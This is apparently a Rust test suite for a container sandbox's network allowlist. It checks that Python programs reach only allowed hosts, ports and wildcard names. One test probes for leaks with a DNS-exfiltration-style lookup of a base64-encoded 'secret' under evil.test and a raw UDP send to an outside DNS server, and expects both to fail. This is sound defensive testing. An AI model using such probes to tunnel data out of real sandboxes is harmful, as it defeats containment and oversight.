//! Programs in a container that know nothing of proxies: allowed names have an address, and connections to it reach the host through the
//! guest and our proxy; nothing else does, and no question leaves. What decides is what decides behind `native`.

use crate::named::{GET, HOSTILE, on_such_a_host, questions, spy};
use crate::origin::Origin;
use crate::stage::Ended;
use crate::walls::{Walled, for_each_engine, has_violation};

/// A run of Python that no variable tells of the proxy, on a host that knows names.
fn python(place: &Walled, flags: &[&str], code: &str, arguments: &[&str]) -> Ended {
    let code = format!(
        "import os\nfor name in list(os.environ):\n    if name.lower().endswith('proxy'): del os.environ[name]\n{code}"
    );
    let argv = [&["python3", "-c", &code], arguments].concat();
    on_such_a_host(&place.stage, place.run(flags, &argv)).run()
}

/// The twin without a wall.
fn bare_python(place: &Walled, code: &str, arguments: &[&str]) -> Ended {
    let argv = [&["run", "-q", "--backend", "spawn", "--", "/usr/bin/python3", "-c", code], arguments].concat();
    on_such_a_host(place.bare(), place.bare().ringfence(argv)).run()
}

/// A policy that lets programs reach `origin` by its name, and by its port of the host.
fn by_name(origin: &Origin) -> String {
    let port = origin.port;
    format!("net: {{ mode: allowlist, localhost: [{port}], allow: [{{ host: origin.test, ports: [{port}] }}] }}\n")
}

#[test]
fn e14_in_a_container_a_program_that_ignores_proxies_reaches_an_allowed_name_and_a_listed_port_and_no_other() {
    let origin = Origin::start();
    let port = origin.port.to_string();
    let words = ["origin.test", &port, "a.pool.test", &port, "localhost", &port];
    for_each_engine(&by_name(&origin), |place| {
        origin.forget();
        let ended = python(place, &["--json"], GET, &words);
        let outcome = ended.json();
        assert_eq!(
            outcome["stdout"], "origin.test 127.198 hello\na.pool.test gaierror\nlocalhost 127.0 hello\n",
            "{outcome:#} {}",
            ended.stderr
        );
        assert_eq!(origin.asked(), ["GET /origin.test 0", "GET /localhost 0"]);
        let network = outcome["network"].as_array().unwrap();
        let ways: Vec<_> =
            network.iter().map(|one| (one["host"].as_str().unwrap(), one["via"].as_str().unwrap())).collect();
        assert!(ways.contains(&("origin.test", "direct")) && ways.contains(&("a.pool.test", "lookup")), "{ways:?}");
        assert!(has_violation(&outcome, "net.allowlist"), "{outcome:#}");
        let enforced = outcome["enforced"].as_array().unwrap();
        let evidence = enforced.iter().find(|one| one["guarantee"] == "net.allowlist").unwrap()["evidence"].to_string();
        assert!(
            evidence.contains("only lo, no route") && evidence.contains("127.198.0.1/15 for allowed names"),
            "{evidence}"
        );
        // Without a wall each of them is reached.
        origin.forget();
        bare_python(place, GET, &words);
        assert_eq!(origin.asked(), ["GET /origin.test 0", "GET /a.pool.test 0", "GET /localhost 0"]);
    });
}

#[test]
fn e11_in_a_container_whatever_is_asked_no_question_leaves_and_the_next_one_is_answered() {
    let spy = spy();
    for_each_engine("net: { mode: allowlist, allow: [origin.test, unknown.test] }\n", |place| {
        let ended = python(place, &[], HOSTILE, &[]);
        assert_eq!(ended.text(), "0 7fc6\n0 7fc6\n", "{ended:?}");
        let exists = "
import socket
for name in ('origin.test', 'c2VjcmV0.evil.test', 'a.pool.test'):
    try: print(name, socket.getaddrinfo(name, 80)[0][4][0].rsplit('.', 2)[0])
    except OSError: print(name, 'none')
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try: s.sendto(b'\\0' * 32, ('192.0.2.53', 53)); print('sent')
    except OSError: print('no way')
";
        let ended = python(place, &[], exists, &[]);
        let expected = "origin.test 127.198\nc2VjcmV0.evil.test none\na.pool.test none\nno way\n";
        assert_eq!(ended.text(), expected, "{ended:?}");
        let Some(spy) = &spy else { return };
        assert_eq!(questions(spy), 0);
        // When an allowed name is connected to, it is looked up, and the spy would have seen the others.
        python(place, &[], "import socket; socket.create_connection(('unknown.test', 443), 5).recv(1)", &[]);
        assert!(questions(spy) > 0, "the probe proves nothing");
    });
}

#[test]
fn e12_in_a_container_made_up_addresses_that_nobody_was_told_lead_nowhere() {
    let origin = Origin::start();
    let port = origin.port.to_string();
    let code = "
import socket, sys
for host in ('127.198.77.77', '127.199.255.254', '127.0.0.1', '127.9.9.9'):
    with socket.create_connection((host, 443), 5) as s:
        s.sendall(b'GET / HTTP/1.1\\r\\nHost: origin.test\\r\\n\\r\\n'); print(host, s.recv(12))
for host, port in (('127.198.77.77', 8443), ('127.198.77.77', int(sys.argv[1])), ('127.0.0.2', int(sys.argv[1]))):
    try: socket.create_connection((host, port), 5); print('reached', host, port)
    except OSError: print('none')
";
    let policy = format!("net: {{ mode: allowlist, localhost: [{port}], allow: [origin.test] }}\n");
    for_each_engine(&policy, |place| {
        origin.forget();
        let outcome = python(place, &["--json"], code, &[&port]).json();
        let denied = "b'HTTP/1.1 403'";
        let expected = format!(
            "127.198.77.77 {denied}\n127.199.255.254 {denied}\n127.0.0.1 {denied}\n127.9.9.9 {denied}\nnone\nnone\nnone\n"
        );
        assert_eq!(outcome["stdout"], expected, "{outcome:#}");
        let network = outcome["network"].as_array().unwrap();
        assert!(network.iter().all(|one| one["allowed"] == false) && network.len() == 3, "{outcome:#}");
        assert!(origin.asked().is_empty());
        let twin = python(place, &[], GET, &["localhost", &port]);
        assert_eq!(twin.text(), "localhost 127.0 hello\n", "the probe proves nothing: {twin:?}");
    });
}

#[test]
fn in_a_container_names_below_a_wildcard_are_reached_and_a_programs_own_servers_are_in_nobodys_way() {
    let origin = Origin::start();
    let port = origin.port.to_string();
    let code = format!(
        "import socket
for own in (('127.0.0.1', 8080), ('0.0.0.0', 8081)):
    server = socket.create_server(own)
    client = socket.create_connection(('127.0.0.1', own[1]), 5)
    there, _ = server.accept(); there.send(b'own'); print(client.recv(3).decode())
{GET}"
    );
    let policy = format!(
        "net: {{ mode: allowlist, localhost: [{port}], allow: [{{ host: \"*.pool.test\", ports: [{port}, 8080] }}] }}\n"
    );
    for_each_engine(&policy, |place| {
        let ended = python(place, &[], &code, &["a.pool.test", &port, "b.pool.test", &port, "pool.test", &port]);
        let expected = "own\nown\na.pool.test 127.198 hello\nb.pool.test 127.198 hello\npool.test gaierror\n";
        assert_eq!(ended.text(), expected, "{ended:?}");
    });
}

#[test]
fn e19_in_a_container_many_connections_to_names_hold_up_nobody_and_end_with_the_run() {
    let origin = Origin::start();
    let port = origin.port.to_string();
    let code = format!(
        "
import socket, sys
held = []
for _ in range(700):
    try: held.append(socket.create_connection(('origin.test', int(sys.argv[2])), 1))
    except OSError: break
print(len(held) >= 100)
for s in held: s.close()
{GET}"
    );
    for_each_engine(&by_name(&origin), |place| {
        let ended = python(place, &[], &code, &["origin.test", &port]);
        assert_eq!(ended.text(), "True\norigin.test 127.198 hello\n", "{ended:?}");
    });
}

#[test]
fn in_a_session_in_a_container_a_name_keeps_its_address() {
    let origin = Origin::start();
    let port = origin.port.to_string();
    for_each_engine(&by_name(&origin), |place| {
        let start = on_such_a_host(&place.stage, place.ringfence(&["session", "start", "direct"]));
        start.run().expect(0, &[]);
        let exec = |code: &str, arguments: &[&str]| {
            let words = ["session", "exec", "--json", "direct", "--", "python3", "-c", code];
            place.ringfence(&[words.as_slice(), arguments].concat()).run().json()
        };
        let address = "import socket; print(socket.gethostbyname('origin.test'))";
        let (one, two) = (exec(address, &[]), exec(address, &[]));
        let three = exec(GET, &["origin.test", &port, "evil.test", "80"]);
        place.ringfence(&["session", "stop", "direct"]).run();
        assert!(one["stdout"].as_str().unwrap().starts_with("127.198."), "{one:#}");
        assert_eq!(one["stdout"], two["stdout"]);
        assert_eq!(three["stdout"], "origin.test 127.198 hello\nevil.test gaierror\n", "{three:#}");
        assert!(three["network"].as_array().unwrap().iter().any(|one| one["via"] == "lookup"), "{three:#}");
    });
}
